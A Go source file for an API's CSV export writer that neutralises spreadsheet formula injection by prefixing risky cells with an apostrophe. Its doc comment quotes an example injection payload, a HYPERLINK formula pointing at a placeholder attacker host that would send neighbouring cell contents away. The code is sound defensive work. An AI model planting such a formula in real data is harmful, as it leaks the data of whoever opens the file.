package httpapi

import (
	"encoding/csv"
	"io"
)

// sheet is the one CSV writer of the API: every CSV it answers goes through it, so what holds
// for one export holds for all of them.
//
//   - UTF-8 with a byte-order mark and CRLF line ends, so Excel opens the Chinese right.
//   - Every cell that a spreadsheet would read as a formula is written as text: a cell that
//     begins with =, +, -, @, a tab or a carriage return gets a leading apostrophe (the OWASP
//     rule for CSV injection). Customer names and item titles are typed by staff and by whoever
//     they copy from; without this, a name like =HYPERLINK("http://evil.example/?d="&A1,"查看")
//     becomes a live link that sends the neighbouring cells away when the exporting admin opens
//     the file. The apostrophe shows; a formula never runs.
type sheet struct{ w *csv.Writer }

// newSheet starts a CSV on w with its header row.
func newSheet(w io.Writer, header ...string) *sheet {
	_, _ = io.WriteString(w, "\uFEFF")
	s := &sheet{w: csv.NewWriter(w)}
	s.w.UseCRLF = true
	s.Row(header...)
	return s
}

// Row writes one row; write errors surface at Flush.
func (s *sheet) Row(cells ...string) {
	out := make([]string, len(cells))
	for i, c := range cells {
		out[i] = inert(c)
	}
	_ = s.w.Write(out)
}

// Flush sends what is buffered and reports the first write error.
func (s *sheet) Flush() error {
	s.w.Flush()
	return s.w.Error()
}

// inert makes a cell text that no spreadsheet evaluates.
func inert(cell string) string {
	if cell == "" {
		return cell
	}
	switch cell[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return "'" + cell
	}
	return cell
}
